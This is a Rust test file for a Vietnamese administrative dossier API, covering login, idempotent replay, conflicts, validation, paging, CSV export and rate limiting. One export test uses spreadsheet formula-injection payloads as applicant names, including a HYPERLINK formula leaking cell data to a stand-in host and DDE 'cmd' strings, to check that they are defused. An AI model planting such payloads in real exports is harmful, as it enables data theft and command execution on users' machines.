//! Dossier API edges: login, idempotent replay, conflicts, refusals, bad
//! input, work lists and the tracking rate limit.

use axum::http::StatusCode;
use serde_json::{Value, json};

use crate::dossier_support::{act, call, desk_filing, key, officer, online_filing, place};
use crate::support::TestApp;

#[tokio::test]
async fn anonymous_work_lists_and_actions_are_401() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    app.get("/api/v1/dossiers")
        .await
        .assert_problem(StatusCode::UNAUTHORIZED);
    let (a, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers/H55.X1-250715-0001/actions/receive",
        &[key("k")],
        Some(json!({})),
    )
    .await;
    a.assert_problem(StatusCode::UNAUTHORIZED);
    let (a, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[key("k")],
        Some(desk_filing()),
    )
    .await;
    a.assert_problem(StatusCode::UNAUTHORIZED);
    let (a, _) = call(
        &app,
        "GET",
        "/api/v1/dossiers",
        &[("authorization", "Bearer dev:x".into())],
        None,
    )
    .await;
    a.assert_problem(StatusCode::UNAUTHORIZED);
    let (a, _) = call(&app, "GET", "/api/v1/dossiers", &[officer(&p.center)], None).await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.body);
}

#[tokio::test]
async fn a_replayed_key_returns_the_first_answer_and_writes_nothing() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let c = p.center.as_str();
    let (first, h1) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("same")],
        Some(desk_filing()),
    )
    .await;
    let (again, h2) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("same")],
        Some(desk_filing()),
    )
    .await;
    assert_eq!(first.status, StatusCode::CREATED);
    assert_eq!(again.status, StatusCode::CREATED);
    assert_eq!(first.body, again.body);
    assert!(h1.get("idempotent-replayed").is_none());
    assert_eq!(h2["idempotent-replayed"], "true");
    let mut other = desk_filing();
    other["applicant"]["name"] = json!("Công ty B");
    let (reused, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("same")],
        Some(other),
    )
    .await;
    reused.assert_problem(StatusCode::UNPROCESSABLE_ENTITY);
    let code = first.body["code"].as_str().unwrap();
    crate::identity::account(
        &app,
        "cv-1",
        c,
        &[motcua_domain::identity::Role::Specialist],
    )
    .await;
    let body = json!({"to": "cv-1", "step_working_days": 1});
    let a = act(&app, c, code, "hand_over", "h", body.clone()).await;
    let b = act(&app, c, code, "hand_over", "h", body).await;
    assert_eq!(a.body, b.body);
    let (view, _) = call(
        &app,
        "GET",
        &format!("/api/v1/dossiers/{code}"),
        &[officer(c)],
        None,
    )
    .await;
    assert_eq!(
        view.body["events"].as_array().unwrap().len(),
        2,
        "nothing written twice"
    );
    let (list, _) = call(&app, "GET", "/api/v1/dossiers", &[officer(c)], None).await;
    assert_eq!(list.body["items"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn concurrent_actions_one_wins_the_other_conflicts() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let c = p.center.as_str();
    let (created, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("n")],
        Some(desk_filing()),
    )
    .await;
    let code = created.body["code"].as_str().unwrap().to_owned();
    let uri = format!("/api/v1/dossiers/{code}/actions/hand_over");
    for id in ["cv-1", "cv-2"] {
        crate::identity::account(&app, id, c, &[motcua_domain::identity::Role::Specialist]).await;
    }
    let send = |k: &'static str, to: &'static str| {
        let (app, uri) = (&app, uri.clone());
        async move {
            call(
                app,
                "POST",
                &uri,
                &[officer(c), key(k), ("if-match", "1".into())],
                Some(json!({"to": to, "step_working_days": 1})),
            )
            .await
            .0
        }
    };
    let (a, b) = tokio::join!(send("x", "cv-1"), send("y", "cv-2"));
    let mut statuses = [a.status, b.status];
    statuses.sort();
    assert_eq!(
        statuses,
        [StatusCode::OK, StatusCode::CONFLICT],
        "{} {}",
        a.body,
        b.body
    );
    let loser = if a.status == StatusCode::CONFLICT {
        a
    } else {
        b
    };
    loser.assert_problem(StatusCode::CONFLICT);
    assert_eq!(loser.body["code"], "stale_version");
}

#[tokio::test]
async fn refusals_and_bad_input_are_problems() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let c = p.center.as_str();
    let (created, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("n")],
        Some(desk_filing()),
    )
    .await;
    let code = created.body["code"].as_str().unwrap().to_owned();
    let refused = act(&app, c, &code, "return", "r", json!({"method": "at_desk"})).await;
    refused.assert_problem(StatusCode::CONFLICT);
    assert_eq!(refused.body["code"], "not_allowed_in_status");
    let mut incomplete = desk_filing();
    incomplete["procedure"] = json!("1.001193");
    let (a, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("i")],
        Some(incomplete),
    )
    .await;
    a.assert_problem(StatusCode::CONFLICT);
    assert_eq!(a.body["code"], "checklist_incomplete");
    let mut bad_id = online_filing(c);
    bad_id["applicant"]["id"] = json!("12345");
    let (a, _) = call(&app, "POST", "/api/v1/dossiers", &[key("b")], Some(bad_id)).await;
    a.assert_problem(StatusCode::BAD_REQUEST);
    assert_eq!(a.body["code"], "personal_id.shape");
    let mut bad_tax = desk_filing();
    bad_tax["applicant"]["id"] = json!("0100109107");
    let (a, _) = call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(c), key("t")],
        Some(bad_tax),
    )
    .await;
    a.assert_problem(StatusCode::BAD_REQUEST);
    let cases = [
        (
            format!("/api/v1/dossiers/{code}/actions/fly"),
            json!({}),
            vec![key("z")],
            StatusCode::NOT_FOUND,
        ),
        (
            format!("/api/v1/dossiers/{code}/actions/refuse"),
            json!({"reason": "x"}),
            vec![],
            StatusCode::BAD_REQUEST,
        ),
        (
            format!("/api/v1/dossiers/{code}/actions/hand_over"),
            json!({"to": 5}),
            vec![key("z")],
            StatusCode::BAD_REQUEST,
        ),
        (
            format!("/api/v1/dossiers/{code}/actions/hand_over"),
            json!({"to": "a", "step_working_days": 1}),
            vec![key("z"), ("if-match", "7".into())],
            StatusCode::CONFLICT,
        ),
        (
            format!("/api/v1/dossiers/{code}/actions/transfer"),
            json!({"to_agency": "H55.NOPE", "working_days": 1}),
            vec![key("z2")],
            StatusCode::BAD_REQUEST,
        ),
        (
            "/api/v1/dossiers/bad/actions/receive".into(),
            json!({}),
            vec![key("z3")],
            StatusCode::BAD_REQUEST,
        ),
        (
            format!(
                "/api/v1/dossiers/{}-0999/actions/receive",
                &code[..code.len() - 5]
            ),
            json!({}),
            vec![key("z4")],
            StatusCode::NOT_FOUND,
        ),
    ];
    for (uri, body, mut headers, status) in cases {
        headers.push(officer(c));
        let (a, _) = call(&app, "POST", &uri, &headers, Some(body)).await;
        a.assert_problem(status);
    }
    let (other, _) = call(
        &app,
        "GET",
        &format!("/api/v1/dossiers/{code}"),
        &[officer(&p.other_center)],
        None,
    )
    .await;
    other.assert_problem(StatusCode::NOT_FOUND);
    for q in [
        "limit=0",
        "limit=501",
        "status=flying",
        "cursor=zz",
        "format=xml",
        "colour=red",
    ] {
        let (a, _) = call(
            &app,
            "GET",
            &format!("/api/v1/dossiers?{q}"),
            &[officer(c)],
            None,
        )
        .await;
        a.assert_problem(StatusCode::BAD_REQUEST);
    }
}

#[tokio::test]
async fn work_lists_page_filter_and_export() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let c = p.center.as_str();
    for i in 0..5 {
        let (a, _) = call(
            &app,
            "POST",
            "/api/v1/dossiers",
            &[officer(c), key(&format!("k{i}"))],
            Some(desk_filing()),
        )
        .await;
        assert_eq!(a.status, StatusCode::CREATED);
    }
    call(
        &app,
        "POST",
        "/api/v1/dossiers",
        &[officer(&p.other_center), key("x")],
        Some(desk_filing()),
    )
    .await;
    let (page, _) = call(&app, "GET", "/api/v1/dossiers?limit=3", &[officer(c)], None).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let items = page.body["items"].as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert_eq!(items[0]["applicant_id"], "0******106");
    let cursor = page.body["next_cursor"].as_str().unwrap();
    let (next, _) = call(
        &app,
        "GET",
        &format!("/api/v1/dossiers?limit=3&cursor={cursor}"),
        &[officer(c)],
        None,
    )
    .await;
    assert_eq!(next.body["items"].as_array().unwrap().len(), 2);
    assert!(next.body["next_cursor"].is_null());
    let (province, _) = call(&app, "GET", "/api/v1/dossiers", &[officer("H55")], None).await;
    assert_eq!(
        province.body["items"].as_array().unwrap().len(),
        6,
        "the province sees every commune"
    );
    let (due, _) = call(
        &app,
        "GET",
        "/api/v1/dossiers?due_within_hours=100&status=received",
        &[officer(c)],
        None,
    )
    .await;
    assert_eq!(due.body["items"].as_array().unwrap().len(), 5);
    let (overdue, _) = call(
        &app,
        "GET",
        "/api/v1/dossiers?overdue=true",
        &[officer(c)],
        None,
    )
    .await;
    assert_eq!(overdue.body["items"].as_array().unwrap().len(), 0);
    let (csv, headers) = call(
        &app,
        "GET",
        "/api/v1/dossiers?format=csv&limit=2",
        &[officer(c)],
        None,
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = csv.body.as_str().unwrap();
    assert_eq!(text.lines().count(), 6, "{text}");
    assert!(
        text.starts_with("\u{feff}Mã hồ sơ,Mã thủ tục,Thủ tục,Trạng thái"),
        "{text}"
    );
}

/// Export rows of the audit log.
async fn exports(app: &TestApp) -> Vec<String> {
    app.state
        .store
        .audit_page(0, 10_000)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.columns.action == "export")
        .map(|e| e.columns.purpose.unwrap_or_default())
        .collect()
}

/// Both CSV exports are one writer (F11, F12, issue 14): BOM, Vietnamese
/// headers and statuses, Vietnam time, formula cells defused, each audited.
#[tokio::test]
async fn both_csv_exports_are_vietnamese_safe_and_audited() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ];
    for (i, name) in names.iter().enumerate() {
        let mut body = online_filing(&p.center);
        body["applicant"]["name"] = json!(name);
        let (a, _) = call(
            &app,
            "POST",
            "/api/v1/dossiers",
            &[key(&format!("csv-{i}"))],
            Some(body),
        )
        .await;
        assert_eq!(a.status, StatusCode::CREATED, "{}", a.body);
    }
    let before = exports(&app).await.len();
    for uri in ["/api/v1/dossiers?format=csv", "/can-bo/ho-so.csv?tab=unit"] {
        let (csv, headers) = call(&app, "GET", uri, &[officer(&p.center)], None).await;
        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.body);
        assert!(
            headers["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/csv")
        );
        let text = csv.body.as_str().unwrap();
        assert!(text.starts_with('\u{feff}'), "{uri}: no BOM");
        let header = text.lines().next().unwrap();
        for column in ["Mã hồ sơ", "Thủ tục", "Trạng thái", "Ngày hẹn trả"] {
            assert!(header.contains(column), "{uri}: {header}");
        }
        assert_eq!(text.lines().count(), 1 + names.len(), "{uri}: {text}");
        for line in text.lines().skip(1) {
            assert!(
                line.contains("Mới đăng ký"),
                "{uri}: status in words: {line}"
            );
            // Every applicant cell starts with the defusing quote.
            let cells: Vec<&str> = line.split(',').collect();
            assert!(
                cells.iter().any(|c| c.starts_with("'=")
                    || c.starts_with("'+")
                    || c.starts_with("'@")
                    || c.starts_with("'-")
                    || c.starts_with("\"'=")),
                "{uri}: {line}"
            );
            assert!(
                !cells
                    .iter()
                    .any(|c| c.starts_with('=') || c.starts_with('+') || c.starts_with('@')),
                "{uri}: a live formula in {line}"
            );
        }
    }
    let after = exports(&app).await;
    assert_eq!(
        after.len(),
        before + 2,
        "one export row per download: {after:?}"
    );
    assert!(
        after
            .iter()
            .any(|p| p.contains("(api)") && p.contains("4 dòng"))
    );
    assert!(
        after
            .iter()
            .any(|p| p.contains("(can-bo)") && p.contains("4 dòng"))
    );
}

#[tokio::test]
async fn tracking_is_rate_limited() {
    let app = TestApp::new().await;
    let mut last = StatusCode::OK;
    for _ in 0..12 {
        last = app
            .get("/api/v1/tracking/H55.X1-250715-0001?verifier=1234")
            .await
            .status;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    app.get("/api/v1/tracking/H55.X1-250715-0001?verifier=1234")
        .await
        .assert_problem(StatusCode::TOO_MANY_REQUESTS);
}

/// Legal review D5: a procedure that the commune police alone decide (tạm
/// trú, 1.004194) is decided by the police of the receiving unit by default,
/// not by its People's Committee; others stay with the committee.
#[tokio::test]
async fn a_police_procedure_is_decided_by_the_commune_police_by_default() {
    let app = TestApp::new().await;
    let p = place(&app).await;
    let submitted = json!({"kind": "submitted", "digitised": false});
    let body = json!({
        "procedure": "1.004194",
        "applicant": {"kind": "citizen", "id": "001090012345", "name": "Trần Văn Cư", "phone": "0912345678"},
        "channel": "in_person",
        "components": [
            {"code": "TP1", "state": submitted},
            {"code": "TP2", "state": submitted},
        ],
    });
    let deciding_of = |body: Value, k: &'static str| {
        let app = &app;
        let center = p.center.clone();
        async move {
            let (created, _) = call(
                app,
                "POST",
                "/api/v1/dossiers",
                &[officer(&center), key(k)],
                Some(body),
            )
            .await;
            assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
            let code = created.body["code"].as_str().expect("code").to_owned();
            let (view, _) = call(
                app,
                "GET",
                &format!("/api/v1/dossiers/{code}"),
                &[officer(&center)],
                None,
            )
            .await;
            view.body["dossier"]["deciding_agency"]
                .as_str()
                .expect("deciding agency")
                .to_owned()
        }
    };
    let committee = p.center.trim_end_matches(".TT").to_owned();
    assert_eq!(deciding_of(body, "d5-1").await, format!("{committee}.CA"));
    assert_eq!(deciding_of(desk_filing(), "d5-2").await, committee);
}
